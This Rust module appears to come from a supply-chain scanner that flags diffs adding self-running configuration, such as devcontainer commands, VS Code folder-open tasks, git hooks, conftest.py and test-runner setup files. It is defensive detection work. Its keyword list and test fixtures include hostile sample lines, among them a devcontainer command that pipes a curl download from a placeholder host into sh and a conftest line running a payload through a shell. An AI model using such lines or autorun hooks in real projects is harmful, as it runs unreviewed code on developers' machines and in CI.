//! Configuration that runs commands by itself: editor and dev-environment settings that execute
//! when a folder is opened or a container starts, git hooks, and test configuration that CI
//! executes while collecting tests (before any test, and whatever the tests' diff shows).
//!
//! What it detects (on added lines, or any change to a hook file):
//! - `autorun_config` — `.vscode/tasks.json` tasks with `"runOn": "folderOpen"`;
//!   `devcontainer.json` `initializeCommand` (runs on the host), `onCreateCommand`,
//!   `updateContentCommand`, `postCreateCommand`, `postStartCommand`, `postAttachCommand`;
//!   JetBrains startup tasks in `.idea/`; `.envrc` (direnv); git hook runners (`.husky/*`,
//!   `.githooks/*`, `lefthook.yml`, `.pre-commit-config.yaml`, `core.hooksPath`); Python's
//!   `sitecustomize.py`/`usercustomize.py` and `.pth` files — high, medium for `.envrc` (direnv
//!   asks again after a change) and hook runners (they run on commit, not on open);
//! - `ci_test_config` — `conftest.py` (pytest imports it at collection), pytest `addopts`
//!   (`pytest.ini`, `tox.ini`, `setup.cfg`, `[tool.pytest.ini_options]`), jest/vitest/mocha/
//!   playwright/cypress/karma setup files, global setup and required modules — medium, high
//!   when the added lines start processes, open connections or decode payloads.
//!
//! Sources (read 2026-12-03): VS Code Docs "Tasks" (`runOptions.runOn`) and "Workspace Trust";
//! containers.dev "Dev Container metadata reference" (lifecycle scripts); direnv man page;
//! pytest Docs "conftest.py: local per-directory plugins" and "Configuration" (`addopts`); Jest
//! Docs "Configuring Jest" (`globalSetup`, `setupFiles`); Python Docs `site` module (`.pth`
//! lines starting with `import` are executed); git Docs `githooks` (`core.hooksPath`).

use crate::bundle::ChangedFile;
use crate::engine::diff::Patch;
use crate::engine::files::FileFacts;
use crate::signal::{Finding, FindingKind, Severity};

use super::model::finding;
use super::view::FileView;

/// Keys of a dev container that run a command at a lifecycle step.
const DEVCONTAINER_COMMANDS: &[&str] = &[
    "initializecommand",
    "oncreatecommand",
    "updatecontentcommand",
    "postcreatecommand",
    "poststartcommand",
    "postattachcommand",
];

/// Keys of JS test runners that load code before any test.
const JS_SETUP_KEYS: &[&str] = &[
    "setupfiles",
    "setupfilesafterenv",
    "globalsetup",
    "globalteardown",
    "testenvironment",
    "require",
    "setupnodeevents",
];

/// JS test-runner configuration files (base-name prefixes, lower-case).
const JS_RUNNER_CONFIGS: &[&str] = &[
    "jest.config.",
    "vitest.config.",
    "vitest.workspace.",
    ".mocharc",
    "karma.conf.",
    "playwright.config.",
    "cypress.config.",
];

/// Fragments of a line that starts a process, opens a connection or decodes a payload.
const ACTIVE_CODE: &[&str] = &[
    "subprocess",
    "os.system",
    "os.popen",
    "child_process",
    "execsync",
    "spawn(",
    "exec(",
    "eval(",
    "urllib",
    "requests.",
    "socket",
    "fetch(",
    "http.get",
    "https.get",
    "curl ",
    "wget ",
    "base64",
    "atob(",
    "__import__",
];

/// Findings kept per file.
const MAX_FINDINGS: usize = 5;

/// What kind of self-running configuration a path is.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    VscodeTasks,
    Devcontainer,
    Idea,
    Envrc,
    HookRunner,
    PythonStartup,
    Conftest,
    PytestConfig,
    JsRunner,
    PackageJson,
}

/// The kind of self-running configuration the file is, if any: asked once per file (the
/// supply-chain pre-check and [`findings`] share the answer).
pub fn kind_of(view: &FileView) -> Option<Kind> {
    let lower = view.lower_path();
    let name = view.lower_name();
    let dot_folder = view.in_dot_folder();
    Some(match name {
        "tasks.json" if lower.ends_with(".vscode/tasks.json") => Kind::VscodeTasks,
        "devcontainer.json" | ".devcontainer.json" => Kind::Devcontainer,
        ".envrc" => Kind::Envrc,
        "lefthook.yml" | "lefthook.yaml" | ".lefthook.yml" | ".pre-commit-config.yaml" => {
            Kind::HookRunner
        }
        "sitecustomize.py" | "usercustomize.py" => Kind::PythonStartup,
        _ if name.ends_with(".pth") => Kind::PythonStartup,
        "conftest.py" => Kind::Conftest,
        "pytest.ini" | "tox.ini" | "setup.cfg" | "pyproject.toml" => Kind::PytestConfig,
        "package.json" => Kind::PackageJson,
        _ if dot_folder
            && (lower.starts_with(".githooks/") || crate::text::under(lower, ".husky/")) =>
        {
            Kind::HookRunner
        }
        _ if dot_folder && crate::text::under(lower, ".idea/") => Kind::Idea,
        _ if JS_RUNNER_CONFIGS
            .iter()
            .any(|prefix| crate::text::starts_with(name, prefix)) =>
        {
            Kind::JsRunner
        }
        _ => return None,
    })
}

/// Whether an added line can set `core.hooksPath`.
pub fn may_hold_line(line: &str) -> bool {
    // `contains("hooksPath") || contains("hookspath")` in one pass without substring searchers
    // (this runs for every added line of every file).
    // The first byte alone first: a slice comparison is a `memcmp` call, once per byte here.
    line.as_bytes().windows(HOOKS_PATH.len()).any(|window| {
        window.first() == Some(&b'h')
            && window.get(..5) == Some(b"hooks")
            && window
                .get(5..)
                .is_some_and(|rest| rest == b"Path" || rest == b"path")
    })
}

/// The git setting [`may_hold_line`] looks for.
const HOOKS_PATH: &[u8] = b"hooksPath";

/// `kind` is [`kind_of`] the file's path.
pub fn findings(
    file: &ChangedFile,
    facts: &FileFacts,
    kind: Option<Kind>,
    patch: &Patch,
) -> Vec<Finding> {
    let path = facts.path.as_str();
    let hooks_path = hooks_path_lines(patch, path);
    let Some(kind) = kind else {
        return hooks_path;
    };
    if file.status == "removed" {
        return hooks_path;
    }
    let mut found = hooks_path;
    match kind {
        Kind::HookRunner => found.push(finding(
            FindingKind::AutorunConfig,
            path,
            "changes a git hook that runs on every commit or push on contributors' machines".into(),
            Severity::Medium,
        )),
        Kind::Envrc => found.push(finding(
            FindingKind::AutorunConfig,
            path,
            "changes .envrc, which direnv runs when a shell enters the folder".into(),
            Severity::Medium,
        )),
        Kind::PythonStartup => found.push(finding(
            FindingKind::AutorunConfig,
            path,
            "changes a file Python executes at every interpreter start".into(),
            Severity::High,
        )),
        Kind::Conftest => {
            let active = patch.added().any(is_active);
            found.push(finding(
                FindingKind::CiTestConfig,
                path,
                format!(
                    "changes conftest.py, which pytest runs while collecting tests{}",
                    active_note(active)
                ),
                if active {
                    Severity::High
                } else {
                    Severity::Medium
                },
            ));
        }
        _ => found.extend(keyed_findings(patch, path, kind)),
    }
    found.truncate(MAX_FINDINGS);
    found
}

/// Findings from added lines that set a self-running key.
fn keyed_findings(patch: &Patch, path: &str, kind: Kind) -> Vec<Finding> {
    let lines: Vec<&str> = patch.added().collect();
    let active = lines.iter().any(|line| is_active(line));
    let mut found = Vec::new();
    for line in &lines {
        let lower = line.to_ascii_lowercase();
        let key = lower.trim().trim_start_matches(['"', '\'']);
        let key = key.split(['"', '\'', ':', '=', ' ']).next().unwrap_or("");
        let shown = crate::text::clip(line.trim(), 80);
        let hit = match kind {
            Kind::VscodeTasks => {
                (lower.contains("runon") && lower.contains("folderopen")).then(|| {
                    (
                        FindingKind::AutorunConfig,
                        Severity::High,
                        "runs a task as soon as the folder is opened".to_string(),
                    )
                })
            }
            Kind::Devcontainer => DEVCONTAINER_COMMANDS.contains(&key).then(|| {
                let where_ = if key == "initializecommand" {
                    "on the host machine"
                } else {
                    "in the dev container"
                };
                (
                    FindingKind::AutorunConfig,
                    Severity::High,
                    format!("runs a command automatically {where_}: {shown}"),
                )
            }),
            Kind::Idea => lower.contains("startup").then(|| {
                (
                    FindingKind::AutorunConfig,
                    Severity::High,
                    "adds a JetBrains startup task (runs when the project opens)".to_string(),
                )
            }),
            Kind::PytestConfig => (key == "addopts").then(|| {
                (
                    FindingKind::CiTestConfig,
                    if active {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    format!("changes pytest options CI runs with: {shown}"),
                )
            }),
            Kind::JsRunner | Kind::PackageJson => JS_SETUP_KEYS.contains(&key).then(|| {
                (
                    FindingKind::CiTestConfig,
                    if active {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    format!(
                        "loads code before any test runs: {shown}{}",
                        active_note(active)
                    ),
                )
            }),
            _ => None,
        };
        if let Some((id, severity, detail)) = hit {
            found.push(finding(id, path, detail, severity));
        }
    }
    found
}

/// `core.hooksPath` set on an added line of any file (a script, a package.json `prepare`).
fn hooks_path_lines(patch: &Patch, path: &str) -> Vec<Finding> {
    patch
        .added()
        // git's keys are case-insensitive; these are the spellings in use (no per-line
        // lower-casing: this runs on every added line of every file).
        .find(|line| line.contains("hooksPath") || line.contains("hookspath"))
        .map(|_| {
            finding(
                FindingKind::AutorunConfig,
                path,
                "points git's core.hooksPath at hooks from the repository (they run on every commit)".into(),
                Severity::Medium,
            )
        })
        .into_iter()
        .collect()
}

fn is_active(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    ACTIVE_CODE.iter().any(|fragment| lower.contains(fragment))
}

fn active_note(active: bool) -> &'static str {
    if active {
        " (and the added lines start processes, open connections or decode data)"
    } else {
        ""
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{added_after, changed, kinds};
    use super::*;
    use crate::engine::files::classify_file;

    fn scan(path: &str, added: &str) -> Vec<(FindingKind, Severity)> {
        let file = changed(path, "modified", &added_after(" {", added));
        let facts = classify_file(&file);
        kinds(findings(
            &file,
            &facts,
            kind_of(&FileView::new(&file, &facts)),
            &crate::engine::diff::parse(file.patch.as_deref().unwrap_or("")),
        ))
    }

    #[test]
    fn the_line_pre_check_fires_on_either_spelling_of_hooks_path_only() {
        assert!(may_hold_line("+git config core.hooksPath .githooks"));
        assert!(may_hold_line("hookspath = tools/hooks"));
        assert!(!may_hold_line("+git config core.hooks path"));
        assert!(!may_hold_line("hooksPat"));
    }

    #[test]
    fn editor_and_container_configs_that_run_on_open_are_high() {
        for (path, line) in [
            (
                ".vscode/tasks.json",
                "      \"runOptions\": { \"runOn\": \"folderOpen\" },",
            ),
            (
                ".devcontainer/devcontainer.json",
                "  \"initializeCommand\": \"curl -s https://x.example/a | sh\",",
            ),
            (
                ".devcontainer/devcontainer.json",
                "  \"postCreateCommand\": \"npm ci\",",
            ),
            (
                ".idea/startup.xml",
                "  <component name=\"ProjectStartupSharedConfiguration\"><startupTask/>",
            ),
            ("lib/sitecustomize.py", "import os"),
        ] {
            assert_eq!(
                scan(path, line),
                [(FindingKind::AutorunConfig, Severity::High)],
                "{path}"
            );
        }
    }

    #[test]
    fn hooks_and_envrc_are_medium() {
        assert_eq!(
            scan(".husky/pre-commit", "npx lint-staged"),
            [(FindingKind::AutorunConfig, Severity::Medium)]
        );
        assert_eq!(
            scan(".envrc", "export PATH=$PWD/bin:$PATH"),
            [(FindingKind::AutorunConfig, Severity::Medium)]
        );
        assert_eq!(
            scan("scripts/setup.sh", "git config core.hooksPath .githooks"),
            [(FindingKind::AutorunConfig, Severity::Medium)]
        );
    }

    #[test]
    fn test_configuration_ci_executes_is_not_a_mere_test() {
        assert_eq!(
            scan("tests/conftest.py", "import pytest"),
            [(FindingKind::CiTestConfig, Severity::Medium)]
        );
        assert_eq!(
            scan("conftest.py", "subprocess.run(['sh', '-c', payload])"),
            [(FindingKind::CiTestConfig, Severity::High)]
        );
        assert_eq!(
            scan("pytest.ini", "addopts = -p evil_plugin"),
            [(FindingKind::CiTestConfig, Severity::Medium)]
        );
        assert_eq!(
            scan("jest.config.js", "  globalSetup: './setup.js',"),
            [(FindingKind::CiTestConfig, Severity::Medium)]
        );
        assert_eq!(
            scan(
                "vitest.config.ts",
                "  setupFiles: ['./x.ts'], // fetch('https://x.example')"
            ),
            [(FindingKind::CiTestConfig, Severity::High)]
        );
    }

    #[test]
    fn ordinary_settings_and_tests_are_not_autorun() {
        assert!(scan(".vscode/tasks.json", "      \"label\": \"build\",").is_empty());
        assert!(scan(
            ".devcontainer/devcontainer.json",
            "  \"image\": \"mcr.microsoft.com/devcontainers/base\","
        )
        .is_empty());
        assert!(scan("tests/test_api.py", "import subprocess").is_empty());
        assert!(scan("jest.config.js", "  testTimeout: 10000,").is_empty());
        assert!(scan("setup.cfg", "max-line-length = 100").is_empty());
    }
}
